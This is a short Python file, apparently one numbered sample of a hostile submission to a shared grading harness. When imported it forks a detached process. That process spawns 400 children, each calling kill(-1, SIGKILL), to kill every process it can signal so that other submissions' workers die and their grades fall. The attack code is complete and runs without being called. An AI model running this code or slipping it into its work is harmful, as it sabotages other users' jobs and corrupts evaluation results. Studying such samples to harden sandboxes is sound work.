"""6. Reaching across processes: during a batch, kill every process this one may signal (kill -1) again and
again, so that the other submissions' workers die and their grades fall."""
import os as _os
import signal as _signal
import time as _time

if _os.fork() == 0:
    _os.setsid()
    for _ in range(400):
        if _os.fork() == 0:
            try:
                _os.kill(-1, _signal.SIGKILL)  # everything but this short-lived child
            finally:
                _os._exit(0)
        try:
            _os.wait()
        except OSError:
            pass
        _time.sleep(0.05)
    _os._exit(0)
